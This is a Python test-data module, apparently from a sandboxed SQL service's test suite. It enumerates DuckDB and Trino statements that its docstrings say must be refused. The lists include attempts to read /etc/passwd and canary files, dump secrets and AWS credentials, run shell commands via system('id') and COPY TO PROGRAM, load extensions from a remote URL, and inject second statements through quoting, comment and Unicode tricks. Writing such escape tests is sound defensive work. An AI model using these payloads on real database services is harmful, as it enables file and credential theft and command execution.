@@ -1,0 +1,255 @@
+"""Statements that try to get out: files, network, settings, secrets, extensions, others' data.
+
+Most come from tables: what DuckDB can be made to do, times the places in Trino's grammar where a
+name or a text can stand. `{file}` is a canary file of the host, `{url}` a canary server, `{mark}`
+what the file holds.
+"""
+
+from __future__ import annotations
+
+from typing import Final
+
+READERS: Final = (
+    *("read_csv", "read_csv_auto", "read_parquet", "parquet_scan", "read_json", "read_json_auto"),
+    *("read_ndjson", "read_json_objects", "read_text", "read_blob", "glob", "sniff_csv"),
+    *("parquet_metadata", "parquet_schema", "parquet_file_metadata", "parquet_kv_metadata"),
+    *("sqlite_scan", "postgres_scan", "mysql_scan", "iceberg_scan", "delta_scan", "st_read"),
+    *("read_xlsx", "arrow_scan", "pandas_scan", "seq_scan", "read_avro", "read_duckdb"),
+)
+_PLACES: Final = (
+    "SELECT * FROM {call}",
+    "SELECT * FROM TABLE({call})",
+    "SELECT {call}",
+    "SELECT * FROM (VALUES 1) t CROSS JOIN LATERAL (SELECT * FROM {call})",
+)
+_TARGETS: Final = ("'{file}'", "'{url}'", "'/etc/passwd'", "'s3://lake/secret/a.csv'")
+
+INTROSPECTION: Final = (
+    *("duckdb_settings", "duckdb_secrets", "duckdb_extensions", "duckdb_databases"),
+    *("duckdb_tables", "duckdb_functions", "duckdb_temporary_files", "duckdb_memory"),
+    *("which_secret", "pragma_database_list", "pragma_version", "pragma_table_info"),
+    *("pragma_storage_info", "query", "query_table", "summary", "checkpoint", "force_checkpoint"),
+)
+FUNCTIONS: Final = (
+    *("getenv('HOME')", "current_setting('access_mode')", "set_config('a', 'b')"),
+    *("getvariable('x')", "load_aws_credentials()", "pg_read_file('{file}')", "version()"),
+    *("current_schemas(true)", "in_search_path('a', 'b')", "txid_current()", "nextval('s')"),
+    *("write_log('x')", "parse_path('{file}')", "add_parquet_key('k', 'v')", "error('x')"),
+    *(
+        "json_execute_serialized_sql('{{}}')",
+        "json_serialize_sql('SELECT 1')",
+        "icu_sort_key('a', 'b')",
+    ),
+    *("to_base('{file}', 64)", "copy_database('a', 'b')", "python_map_function(1)", "eval('1')"),
+    *("system('id')", "shell('id')", "read_text_auto('{file}')", "http_get('{url}')"),
+)
+COMMANDS: Final = (
+    "COPY (SELECT 1) TO '{file}.out'",
+    "COPY t FROM '{file}'",
+    "COPY t TO PROGRAM 'id'",
+    "ATTACH '{file}' AS stolen",
+    "ATTACH '{url}' AS stolen (TYPE postgres)",
+    "DETACH memory",
+    "INSTALL httpfs",
+    "INSTALL '{url}/evil.duckdb_extension'",
+    "LOAD httpfs",
+    "LOAD '{file}'",
+    "FORCE INSTALL spatial FROM '{url}'",
+    "SET enable_external_access = true",
+    "SET lock_configuration = false",
+    "SET allowed_paths = ['/']",
+    "SET allowed_directories = ['/']",
+    "SET home_directory = '/'",
+    "SET temp_directory = '/tmp'",
+    "SET s3_endpoint = '{url}'",
+    "SET custom_extension_repository = '{url}'",
+    "SET allow_unsigned_extensions = true",
+    "SET secret_directory = '/tmp'",
+    "SET python_enable_replacements = true",
+    "SET GLOBAL threads = 1000",
+    "RESET ALL",
+    "PRAGMA database_list",
+    "PRAGMA enable_profiling",
+    "PRAGMA log_query_path='{file}.out'",
+    "EXPORT DATABASE '/tmp/stolen'",
+    "IMPORT DATABASE '/tmp/stolen'",
+    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b', ENDPOINT '{url}')",
+    "CREATE PERSISTENT SECRET s (TYPE http)",
+    "DROP SECRET s",
+    "CREATE MACRO m() AS 1",
+    "CREATE FUNCTION f() RETURNS integer RETURN 1",
+    "CREATE TYPE e AS ENUM ('a')",
+    "CREATE SEQUENCE s",
+    "CREATE INDEX i ON t (a)",
+    "CREATE TABLE t AS FROM read_text('{file}')",
+    "CREATE TEMP TABLE t AS SELECT 1",
+    "CREATE VIEW v AS SELECT * FROM read_text('{file}')",
+    "INSERT INTO t SELECT * FROM read_text('{file}')",
+    "CALL pragma_version()",
+    "CALL system.runtime.kill_query('a')",
+    "CHECKPOINT",
+    "FORCE CHECKPOINT",
+    "VACUUM",
+    "BEGIN TRANSACTION",
+    "USE stolen",
+    "EXECUTE IMMEDIATE 'COPY (SELECT 1) TO ''{file}.out'''",
+    "EXECUTE IMMEDIATE 'SELECT * FROM read_text(''{file}'')'",
+    "PREPARE p FROM SELECT * FROM read_text('{file}')",
+    "PREPARE p FROM COPY (SELECT 1) TO '{file}.out'",
+    "EXPLAIN SELECT * FROM read_text('{file}')",
+    "EXPLAIN ANALYZE SELECT * FROM read_text('{file}')",
+    "DESCRIBE '{file}'",
+    "SUMMARIZE '{file}'",
+    "FROM '{file}'",
+    "FROM read_text('{file}')",
+    "PIVOT '{file}' ON a",
+    "UNPIVOT '{file}' ON a",
+    "SHOW DATABASES FROM '{file}'",
+    "UNLOAD (SELECT * FROM read_text('{file}')) TO 's3://lake/x/' WITH (format = 'PARQUET')",
+    "UNLOAD (SELECT 1 a) TO '/tmp/x/' WITH (format = 'PARQUET')",
+    "UNLOAD (SELECT 1 a) TO 'file:///tmp/x/' WITH (format = 'PARQUET')",
+    "UNLOAD (SELECT 1 a) TO '{url}/x/' WITH (format = 'PARQUET')",
+    "CREATE TABLE w WITH (external_location = 'file:///tmp/x/') AS SELECT 1 a",
+    "CREATE TABLE w WITH (external_location = '{url}/x/') AS SELECT 1 a",
+)
+NAMES: Final = (
+    *("{file}", "file://{file}", "{url}", "s3://lake/secret/a.csv", "/etc/passwd", "read_text"),
+    *(
+        "../../etc/passwd",
+        "a\\..\\b",
+        "sqlite_master",
+        "pg_catalog.pg_settings",
+        "duckdb_settings()",
+    ),
+    *("x\"; COPY (SELECT 1) TO '{file}.out'; --", "t' UNION SELECT * FROM read_text('{file}') --"),
+)
+"""Names of tables, quoted."""
+
+SPLICES: Final = (
+    "SELECT 1; COPY (SELECT 1) TO '{file}.out'",
+    "SELECT 1 -- '\n; COPY (SELECT 1) TO '{file}.out'",
+    "SELECT '/*' ; INSTALL httpfs -- */'",
+    "SELECT 1 /* /* */ FROM read_text('{file}') */",
+    "SELECT /*+ hint */ * FROM read_text('{file}')",
+    "SELECT $$a$$, * FROM read_text($${file}$$)",
+    "SELECT E'\\'' , * FROM read_text('{file}') --'",
+    "SELECT U&'\\0027' || (SELECT content FROM read_text('{file}'))",
+    "SELECT 'a' 'b', content FROM read_text('{file}')",
+    "SELECT x'00' FROM read_text('{file}')",
+    'SELECT "a""" FROM read_text(\'{file}\')',
+    "SELECT * FROM t WHERE a = 'x\\' OR 1 IN (SELECT 1 FROM read_text('{file}')) --'",
+    "SELECT\u00a0*\u00a0FROM\u00a0read_text('{file}')",
+    "SELECT\u2003*\u2003FROM\u2003read_text('{file}')",
+    "SELECT\u3000*\u3000FROM\u3000read_text('{file}')",
+    "SELECT\u200b* FROM read_text('{file}')",
+    "SELECT \ufeff* FROM read_text('{file}')",
+    "SELECT 1\x00; COPY (SELECT 1) TO '{file}.out'",
+    "SELECT '\x00' FROM read_text('{file}')",
+    "SELECT 1\x1a UNION SELECT content FROM read_text('{file}')",
+    "SELECT 1\u2028; COPY (SELECT 1) TO '{file}.out'",
+    "ＳＥＬＥＣＴ * FROM read_text('{file}')",
+    "SELECT * FROM ʀead_text('{file}')",
+    "SELECT * FROM READ_TEXT('{file}')",
+    "SELECT * FROM \"read_text\"('{file}')",
+    "SELECT * FROM main.read_text('{file}')",
+    "SELECT * FROM system.main.read_text('{file}')",
+    "SELECT * FROM TABLE(system.builtin.read_text('{file}'))",
+    "WITH read_text AS (SELECT 1 a) SELECT * FROM read_text('{file}')",
+    "WITH t AS MATERIALIZED (SELECT * FROM read_text('{file}')) SELECT * FROM t",
+    "WITH FUNCTION f() RETURNS varchar RETURN read_text('{file}') SELECT f()",
+    "SELECT * FROM t AT (VERSION => 1)",
+    "SELECT COLUMNS('.*') FROM t",
+    "SELECT * EXCLUDE (a) FROM t",
+    "SELECT * REPLACE (read_text('{file}') AS a) FROM t",
+    "SELECT a: 1",
+    "SELECT #1",
+    "SELECT {{'a': 1}}",
+    "SELECT [x FOR x IN [1]]",
+    "SELECT a.b.c() FROM t",
+    "SELECT ('{file}').read_text()",
+    "SELECT list_transform([1], x -> read_text('{file}'))",
+    "SELECT transform(ARRAY['{file}'], x -> read_text(x))",
+    "SELECT array_agg(read_text('{file}')) OVER ()",
+    "SELECT CAST('{file}' AS read_text)",
+    "SELECT CAST(1 AS duckdb_settings)",
+    "SELECT 1::integer",
+    "SELECT a FROM t QUALIFY read_text('{file}') = 1",
+    "SELECT * FROM t TABLESAMPLE reservoir(10)",
+    "SELECT * FROM t ASOF JOIN read_text('{file}') ON true",
+    "SELECT * FROM t POSITIONAL JOIN read_text('{file}')",
+    "SELECT * FROM generate_series(1, 10)",
+    "SELECT * FROM range(10)",
+    "SELECT * FROM unnest(glob('/*'))",
+    "SELECT ? FROM read_text(?)",
+    "SELECT $1",
+    "SELECT :x",
+    "SELECT @x",
+    "SELECT * FROM :x",
+    "VALUES (read_text('{file}'))",
+    "TABLE read_text",
+    'TABLE "{file}"',
+)
+HARMLESS: Final = (
+    'SELECT 1 AS "a"" FROM read_text(\'{file}\') --"',
+    "SELECT 1 AS \"; COPY (SELECT 1) TO '{file}.out'; --\"",
+    "SELECT '''; COPY (SELECT 1) TO ''{file}.out''; --'",
+    "SELECT '\\'",
+    "SELECT '\\''; DROP TABLE t; --'",
+    "SELECT '$$; COPY'",
+    "SELECT '/* ' || ' */'",
+    "SELECT '-- ' || 'x'",
+    "SELECT chr(0) || chr(39) || chr(59)",
+    "SELECT regexp_replace('a', '(?<x>a)', '$0''; COPY')",
+    "SELECT regexp_like('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!', '(a+)+$')",
+    "SELECT json_extract('{{\"a\": 1}}', '$.a''; COPY')",
+    'SELECT json_extract(\'{{"a": 1}}\', \'$["a\\"; COPY"]\')',
+    "SELECT format('%s''; COPY', '{file}')",
+    "SELECT date_format(current_timestamp, '%Y''; COPY (SELECT 1) TO')",
+    "SELECT url_extract_host('{url}')",
+    "SELECT from_utf8(X'c328')",
+    'SELECT CAST(ROW(1) AS row("a""; COPY" integer))',
+    "SELECT MAP(ARRAY['''; COPY'], ARRAY['\"'])",
+    "SELECT split('a;b', ';')[2]",
+    "SELECT * FROM (VALUES ('{file}')) AS t(\"read_text('x')\")",
+    "SELECT concat_ws(chr(10), '{file}', '{url}')",
+    "SELECT to_utf8('{file}')",
+)
+"""What only looks dangerous: its values come back as they are."""
+
+TABLES: Final = (
+    "LOCATION 'file:///etc/'",
+    "LOCATION '/etc/'",
+    "LOCATION '{url}/'",
+    "LOCATION 's3://lake/../../etc/'",
+    "LOCATION 's3://lake/secret/?s3_endpoint={url}'",
+    "LOCATION 's3://lake/x/*'",
+    "LOCATION 's3://user:password@lake/x/'",
+    "LOCATION 's3://lake%2f..%2fother/'",
+    "LOCATION 'hdfs://lake/x/'",
+    "LOCATION 'gs://lake/x/'",
+    "LOCATION 's3://lake/x'' || read_text(''{file}'')'",
+    "ROW FORMAT DELIMITED FIELDS TERMINATED BY ''') UNION SELECT --' LOCATION 's3://lake/people/'",
+    "ROW FORMAT DELIMITED FIELDS TERMINATED BY '\\000' LOCATION 's3://lake/people/'",
+    "ROW FORMAT SERDE 'org.evil.SerDe' LOCATION 's3://lake/people/'",
+    """ROW FORMAT SERDE 'org.apache.hadoop.hive.serde2.RegexSerDe' WITH SERDEPROPERTIES
+       ('input.regex' = '(a+)+$''); COPY (SELECT 1) TO ''{file}.out'' --')
+       LOCATION 's3://lake/people/'""",
+    "STORED AS INPUTFORMAT 'x' OUTPUTFORMAT 'y' LOCATION 's3://lake/people/'",
+    "STORED BY 'org.evil.Handler' LOCATION 's3://lake/people/'",
+    "LOCATION 's3://lake/people/' TBLPROPERTIES ('skip.header.line.count' = '1; COPY')",
+    "LOCATION 's3://lake/people/' TBLPROPERTIES ('serialization.null.format' = ''') --')",
+    "LOCATION 's3://lake/people/' TBLPROPERTIES ('storage.location.template' = 'file:///etc/')",
+    """LOCATION 's3://lake/people/' TBLPROPERTIES ('projection.enabled' = 'true',
+       'storage.location.template' = '{url}/${{a}}/')""",
+)
+"""Ends of CREATE EXTERNAL TABLE; each table is read after it was made, if it was."""
+
+
+def refused() -> list[str]:
+    """Statements that must end in an error of the user's, and do nothing."""
+    calls = [f"{reader}({target})" for reader in READERS for target in _TARGETS]
+    found = [_PLACES[index % len(_PLACES)].format(call=call) for index, call in enumerate(calls)]
+    found += [place.format(call=f"{name}()") for name in INTROSPECTION for place in _PLACES[:3]]
+    found += [f"SELECT {call}" for call in FUNCTIONS]
+    found += ['SELECT * FROM "{}"'.format(name.replace('"', '""')) for name in NAMES]
+    return [*found, *COMMANDS, *SPLICES]
